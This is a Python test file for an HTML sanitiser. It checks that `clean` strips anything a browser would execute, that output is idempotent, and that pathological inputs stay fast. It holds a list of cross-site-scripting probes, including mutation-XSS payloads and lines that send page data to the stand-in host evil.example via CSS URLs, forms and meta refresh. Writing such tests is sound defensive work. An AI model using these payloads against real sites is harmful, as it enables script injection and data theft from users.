"""Nothing that comes in through `clean` can execute, and what is clean stays as it is."""

import re
import time
from html.parser import HTMLParser

import pytest
from hypothesis import example, given
from hypothesis import strategies as st

from inkstand.kit.html import as_html, clean, lead, parted, text
from inkstand.kit.html.names import names

PROBES = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><script>alert&#40;1)</script></svg>",
    "<svg><a xlink:href=javascript:alert(1)><text>x</text></a></svg>",
    "<svg><animate attributeName=href values=javascript:alert(1) /></svg>",
    '<a href="javascript:alert(1)">a</a>',
    '<a href="jav&#x09;ascript:alert(1)">a</a>',
    '<a href="&#1;javascript:alert(1)">a</a>',
    '<a href=" JaVaScRiPt:alert(1)">a</a>',
    '<a href="vbscript:msgbox(1)">a</a>',
    '<a href="data:text/html,<script>alert(1)</script>">a</a>',
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<iframe src=javascript:alert(1)></iframe>",
    '<object data="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=="></object>',
    "<embed src=javascript:alert(1)>",
    "<form action=//evil.example><input name=q><button formaction=javascript:alert(1)>go</button></form>",
    "<style>*{background:url('//evil.example/?leak')}</style>",
    "<p style=\"background:url('//evil.example/?leak')\">x</p>",
    "<base href=//evil.example/><a href=x>x</a>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<body onload=alert(1)>",
    "<details open ontoggle=alert(1)>x</details>",
    "<video><source onerror=alert(1)></video>",
    "<input autofocus onfocus=alert(1)>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<img src=javascript:alert(1)>",
    "<img srcset='javascript:alert(1) 2x'>",
    "<img data-src='javascript:alert(1)' src=x>",
    "<img alt='`><script>alert(1)</script>' src=https://e.com/a.png>",
    "<picture><source srcset='x onerror=alert(1)'><img src=y></picture>",
    # mutation: what a sanitiser's tree and a browser's may read differently
    "<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
    '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    '<textarea><p title="</textarea><img src=x onerror=alert(1)>">',
    "<xmp><p title='</xmp><img src=x onerror=alert(1)>'>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<!--!><img src=x onerror=alert(1)>--!>",
    "<![CDATA[><img src=x onerror=alert(1)>]]>",
    "<template><script>alert(1)</script></template>",
    "<select><template><img src=x onerror=alert(1)></template></select>",
    "<p><svg><desc><p><style><img src=x onerror=alert(1)></style></desc></svg>",
    "<plaintext><img src=x onerror=alert(1)>",
    "<img src='x\0' onerror\0=alert(1)>",
    "<scr\0ipt>alert(1)</scr\0ipt>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&amp;lt;img src=x onerror=alert(1)&amp;gt;",
]

TAGS = """
<p> </p> <div> </div> <b> </b> <a> </a> <table> <tr><td> </table> <svg> <math> <style> </style> <ul><li> </ul>
<h1> </h1> <h5> <br> &nbsp; &lt; &amp; <!-- --> <font> <object> <pre> </pre> <noscript> <select> <option> <form>
<figure> <figcaption> </figure> </picture> <dl><dt> <dd> <ruby>x<rt> <q> <hr> x " ' > < =
"""
WITH_ATTRIBUTES = [
    "<h2 lang=en>",
    "<a href=/x>",
    "<img src=https://e.com/a.png>",
    "<img data-src=//e.com/b.png>",
    "<picture><source srcset='/a 1x, /b 2x'>",
]
SOUP = st.lists(st.sampled_from([*TAGS.split(), *WITH_ATTRIBUTES, *PROBES, "\n", " "]), max_size=25).map("".join)
ALLOWED = names("href rel src alt width height loading lang dir datetime title colspan rowspan start")
ACTING = names("script style iframe object embed form svg math base meta link template xmp noscript")


class Browserish(HTMLParser):
    """Collects what a page would act on."""

    def __init__(self, html):
        super().__init__()
        self.tags, self.attributes = set(), []
        self.feed(html)

    def handle_starttag(self, tag, attrs):
        self.tags.add(tag)
        self.attributes += attrs


def nothing_acts(html):
    seen = Browserish(html)
    assert not seen.tags & ACTING
    for name, value in seen.attributes:
        assert name in ALLOWED
        assert name not in ("href", "src") or re.match(r"https?://|mailto:", value)


@pytest.mark.parametrize("probe", PROBES)
def test_no_probe_leaves_anything_that_acts(probe):
    for form in (clean(probe), as_html(probe), clean(probe, base_url="https://e.com/a"), clean(f"<p>a{probe}b</p>")):
        nothing_acts(form)


@given(SOUP | st.text())
@example("<p><object><p>x</p></object></p>")
@example("<pre>\n\n</pre>")
def test_what_is_clean_stays_as_it_is(html):
    once = clean(html, base_url="https://e.com/")
    nothing_acts(once)
    assert clean(once, base_url="https://e.com/") == once
    assert clean(once) == once


@given(SOUP | st.text())
def test_text_as_html_is_clean(value):
    assert clean(as_html(value)) == as_html(value)


def test_an_article_keeps_its_parts():
    html = '<h1>A</h1><p lang="fr">B <em>c</em> <a href="https://e.com/">d</a></p><blockquote><p>e</p></blockquote><ul><li>f</li></ul>'
    assert clean(html) == (
        '<h2>A</h2><p lang="fr">B <em>c</em> <a href="https://e.com/" rel="noopener noreferrer nofollow">d</a></p>'
        "<blockquote><p>e</p></blockquote><ul><li>f</li></ul>"
    )


def test_addresses_become_absolute():
    assert 'href="https://e.com/b"' in clean('<a href="/b">x</a>', base_url="https://e.com/a/")
    assert 'href="https://f.com/b"' in clean(
        '<base href="https://f.com/"><a href="b">x</a>', base_url="https://e.com/a/"
    )
    assert "href" not in clean('<a href="/b">x</a>')
    assert 'href="mailto:a@e.com"' in clean('<a href="mailto:a@e.com">x</a>')


@pytest.mark.parametrize(
    "img",
    [
        "<img src=/a.jpg>",
        "<img src='data:image/gif;base64,R0lG' data-src=/a.jpg>",
        "<img data-lazy-src=/a.jpg src=/blank.gif>",
        "<img srcset='/s.jpg 320w, /a.jpg 1024w'>",
        "<picture><source srcset='/a.jpg 2x, /s.jpg 1x'><img></picture>",
    ],
)
def test_a_lazy_picture_becomes_a_picture(img):
    assert clean(img, base_url="https://e.com") == '<img src="https://e.com/a.jpg" alt="" loading="lazy">'


def test_pixels_and_empties_go():
    assert (
        clean('<p>a<img src="https://t.example/p.gif" width=1 height=1></p><p>&nbsp;<br></p><p><b> </b></p>')
        == "<p>a</p>"
    )
    assert clean('<p>a</p><img src="http://feeds.feedburner.com/~r/x/~4/y">') == "<p>a</p>"


def test_other_blocks_become_paragraphs():
    assert clean("<div>a<div>b</div></div><section><p>c</p></section>") == "<p>a</p><p>b</p><p>c</p>"


def test_text_and_html_are_told_apart():
    assert as_html("a < b & c\nd\n\ne") == "<p>a &lt; b &amp; c<br>d</p><p>e</p>"
    assert as_html("<p>a &amp; b</p>") == as_html("&lt;p&gt;a &amp;amp; b&lt;/p&gt;") == "<p>a &amp; b</p>"
    assert as_html("Caf&eacute; &amp; co") == "<p>Café &amp; co</p>"


def test_words_are_spaced_by_blocks():
    assert text("<p>a  <b>b</b>\nc</p><script>x</script><ul><li>d</li><li>e</li></ul>f<br>g") == "a b c\n\nd\ne\n\nf\ng"
    assert text("Q&amp;A &lt;live&gt;") == "Q&A <live>"


def test_a_lead_stops_at_its_words():
    assert (
        lead("<p>one two</p><p>three <a href=x>four</a> five</p><p>six</p>", words=4)
        == "<p>one two</p><p>three four …</p>"
    )


HOSTILE = {
    "divs": "<div>" * 200_000,
    "bolds": "<b>" * 200_000,
    "paragraphs in formatting": "<em><p>" * 100_000,
    "tables": "<table>" * 100_000,
    "formatting reopened": "<p><b a=1><b a=2><i><u></p>x" * 20_000,
    "no end of a tag": "<a " * 300_000,
    "many attributes": "<p " + " ".join(f"a{i}" for i in range(100_000)) + ">x",
    "a long attribute": "<p " + "a=" * 1_000_000,
    "a long text": "x" * 2_000_000 + "<p>",
    "scripts": "<script>" * 100_000,
    "closing only": "</p>" * 300_000,
    "stray closing": "<div><table></div>" * 30_000,
    "a long srcset": "<picture><source srcset='" + "a, " * 500_000,
    "angles in a value": "<img alt='" + "<" * 1_000_000,
    "comments": "<!--" * 300_000,
    "ampersands": "&" * 1_000_000,
    "spaces": "<p>" + " " * 1_000_000,
    "empties": "<b>" * 150 + " " * 1_000 + "</b>" * 150,
}


@pytest.mark.parametrize("hostile", HOSTILE.values(), ids=HOSTILE)
def test_hostile_html_costs_little(hostile):
    began = time.process_time()
    nothing_acts(clean(hostile))
    text(hostile)
    assert time.process_time() - began < 3


@pytest.mark.parametrize(
    ("plain", "first", "rest"),
    [
        ("one two three", "one two", "three"),
        ("one two", "one two", ""),
        ("one\n\ntwo\n\nthree", "one\n\ntwo", "three"),
        ("港口在夜里结冰", "港口在夜", "里结冰"),
        ("ท่าเรือแข็ง", "ท่าเ", "รือแข็ง"),
        ("", "", ""),
    ],
)
def test_two_characters_of_a_script_without_spaces_are_a_word(plain, first, rest):
    assert parted(plain, 2) == (first, rest)
    assert lead(plain, 2) == lead(first + (" …" if rest and "\n\n" not in plain else ""), 9)
